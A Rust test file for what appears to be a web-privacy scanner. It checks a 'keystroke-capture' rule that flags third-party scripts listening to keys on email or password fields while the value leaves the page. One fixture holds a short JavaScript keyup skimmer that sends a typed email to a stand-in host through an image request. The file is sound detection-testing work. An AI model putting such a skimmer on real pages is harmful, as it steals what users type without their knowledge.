//! keystroke-capture counts key and input listeners only: a script that
//! reads a field on blur or change and sends the value leaks it once typing
//! is over, which is pii-before-submit's finding, not this rule's. Each case
//! has data leaving the page, so that only the listener decides.

mod fingerprint_common;

use std::collections::BTreeMap;
use std::sync::Arc;

use fingerprint_common::{call, capture_with_script, request};
use outflow_detect::{Facts, ScriptFacts};
use outflow_model::{
    ApiAccess, Canary, CanaryKind, Capture, Confidence, Finding, ScriptInput, Severity,
};

const SCRIPT: &str = "https://cdn.form-vendor.test/f.js";
const EMAIL: &str = "outflow.5be1c07d9a@example.com";

/// A capture of the page in which `SCRIPT` registered `listeners` (as the
/// instrumentation describes them) and sent the typed address, whole, to
/// its own host before any submission.
fn capture(listeners: &[&str]) -> Capture {
    let mut capture = capture_with_script(SCRIPT);
    capture.canaries = vec![Canary {
        kind: CanaryKind::Email,
        value: EMAIL.to_string(),
        field: "input[type=email][name=email]#email".to_string(),
        frame_url: "https://shop.test/".to_string(),
        typed_at_ms: 100,
    }];
    capture.api_calls = Some(vec![
        call(
            SCRIPT,
            "EventTarget.addEventListener",
            ApiAccess::Call,
            listeners.len() as u64,
            listeners,
        ),
        call(
            SCRIPT,
            "HTMLInputElement.value",
            ApiAccess::Get,
            1,
            &["input[type=email][name=email]#email"],
        ),
    ]);
    capture.requests = vec![request(
        "r1",
        &format!(
            "https://cdn.form-vendor.test/c?e={}",
            EMAIL.replace('@', "%40")
        ),
        SCRIPT,
        900,
        None,
    )];
    capture
}

/// Runs one rule over a capture whose scripts have `source` (analysed
/// statically, as `outflow scan` does) or no source at all.
fn run(slug: &str, capture: &Capture, source: Option<&str>) -> Vec<Finding> {
    let scripts: Vec<ScriptFacts> = capture
        .scripts
        .iter()
        .map(|s| ScriptFacts {
            id: s.id.clone(),
            name: SCRIPT.to_string(),
            url: Some(SCRIPT.to_string()),
            sha256: String::new(),
            source: source.map(Arc::from),
            analysis: source.and_then(|text| {
                outflow_js::analyze_script(
                    SCRIPT,
                    ScriptInput::Stdin,
                    text.as_bytes(),
                    &outflow_js::Options::default(),
                )
                .into_iter()
                .next()
            }),
        })
        .collect();
    let attributions = BTreeMap::new();
    let facts = Facts {
        capture: Some(capture),
        scripts: &scripts,
        attributions: &attributions,
    };
    outflow_detect::rule(slug)
        .unwrap_or_else(|| panic!("no rule {slug}"))
        .check(&facts)
}

#[test]
fn a_keyup_listener_on_a_sensitive_field_with_the_value_leaving_is_keystroke_capture() {
    let c = capture(&["keyup on input[type=email][name=email]#email"]);
    let findings = run("keystroke-capture", &c, None);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    insta::assert_json_snapshot!("keystroke-capture", findings);
    assert_eq!(findings[0].severity, Severity::High);
    assert_eq!(findings[0].confidence, Confidence::High);
    assert_eq!(findings[0].script.as_deref(), Some(SCRIPT));
}

#[test]
fn every_key_event_counts_and_document_wide_listeners_too() {
    for event in ["keydown", "keypress", "input", "beforeinput", "paste"] {
        let c = capture(&[&format!("{event} on input[type=password]#pw")]);
        assert_eq!(run("keystroke-capture", &c, None).len(), 1, "{event}");
    }
    let c = capture(&["keydown on document"]);
    assert_eq!(run("keystroke-capture", &c, None).len(), 1);
}

#[test]
fn key_handler_properties_count_but_blur_and_change_handlers_do_not() {
    let mut c = capture(&[]);
    let calls = c.api_calls.as_mut().unwrap();
    calls[0] = call(
        SCRIPT,
        "HTMLElement.onchange",
        ApiAccess::Set,
        1,
        &["input[type=email]#email"],
    );
    calls.push(call(
        SCRIPT,
        "HTMLElement.onblur",
        ApiAccess::Set,
        1,
        &["input[type=email]#email"],
    ));
    assert!(run("keystroke-capture", &c, None).is_empty());
    c.api_calls.as_mut().unwrap().push(call(
        SCRIPT,
        "Window.onkeydown",
        ApiAccess::Set,
        1,
        &["window"],
    ));
    assert_eq!(run("keystroke-capture", &c, None).len(), 1);
}

#[test]
fn a_blur_or_change_reader_whose_value_leaves_is_a_leak_before_submission_not_keystroke_capture() {
    let c = capture(&[
        "blur on input[type=email][name=email]#email",
        "change on input[type=email][name=email]#email",
        "focusout on input[type=email][name=email]#email",
        // Not a field: a click anywhere says nothing about typing.
        "click on document",
    ]);
    let findings = run("keystroke-capture", &c, None);
    assert!(findings.is_empty(), "{findings:#?}");
    // The leak itself is reported, by the rule whose business it is.
    let leaks = run("pii-before-submit", &c, None);
    assert_eq!(leaks.len(), 1, "{leaks:#?}");
}

#[test]
fn key_listeners_on_fields_that_are_not_sensitive_do_not_count() {
    let c = capture(&["keyup on input[type=search][name=q]#search"]);
    assert!(run("keystroke-capture", &c, None).is_empty());
}

/// Static evidence: the code registers the listener and reads the value;
/// nothing was recorded running.
fn code_only(source: &str) -> Vec<Finding> {
    let mut c = capture(&[]);
    c.api_calls = Some(Vec::new());
    run("keystroke-capture", &c, Some(source))
}

#[test]
fn in_the_code_a_keyup_reader_counts_and_a_blur_reader_does_not() {
    let keyup = "var f = document.querySelector('input[type=email]');\n\
                 f.addEventListener('keyup', function (e) {\n\
                   new Image().src = 'https://cdn.form-vendor.test/c?e=' + encodeURIComponent(e.target.value);\n\
                 });";
    let findings = code_only(keyup);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0].severity, Severity::Medium);
    assert!(
        findings[0].title.contains("can listen"),
        "{}",
        findings[0].title
    );

    let blur = keyup.replace("'keyup'", "'blur'");
    assert!(code_only(&blur).is_empty(), "{:#?}", code_only(&blur));
    let change = keyup.replace("'keyup'", "'change'");
    assert!(code_only(&change).is_empty(), "{:#?}", code_only(&change));
}
